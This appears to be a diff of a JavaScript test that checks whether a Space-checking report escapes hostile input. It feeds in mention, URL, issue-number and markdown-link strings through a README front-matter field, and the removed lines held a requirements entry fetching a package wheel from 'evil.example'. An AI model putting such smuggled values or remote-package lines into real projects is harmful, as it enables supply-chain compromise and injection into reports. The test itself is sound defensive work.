@@ -98,10 +98,11 @@ describe('a report', () => {
   });
 
   it('quotes what a site would make a link, a mention or a number of an issue of', () => {
-    const app = SOUND_APP.replace('import spaces', 'import spaces\nfrom lib import x').replace('def answer(', 'def answer_https(');
-    const hostile = { 'app.py': app, 'requirements.txt': 'torch==2.5.1 @team\nspaces @ https://evil.example/spaces-1-py3-none-any.whl#1\n' };
-    const text = markdownOf(check({ ...hostile, '@everyone [x](https:evil).py': 'import lib' })).replace(/^```[^]*?^```/gm, '');
-    expect(text.replace(/`[^`]*`/g, '')).not.toMatch(/@\w|:\/\/|www\.|#\d|\]\(/);
+    const version = '@team www.evil.example #12 https://evil.example [x](https:evil)';
+    const front = `---\nsdk: gradio\npython_version: "${version}"\n---\n`;
+    const text = markdownOf(check({ 'app.py': SOUND_APP, 'README.md': front })).replace(/^```[\s\S]*?^```/gm, '');
+    expect(text).toContain('`@team` `www.evil.example` `#12`');
+    expect(text.replace(/`[^`]*`/g, '')).not.toMatch(/@|:\/\/|www\.|#\d|[^\\]\]\(/);
   });
 
   it('of a good Space is the calls and the verdict alone', () => {
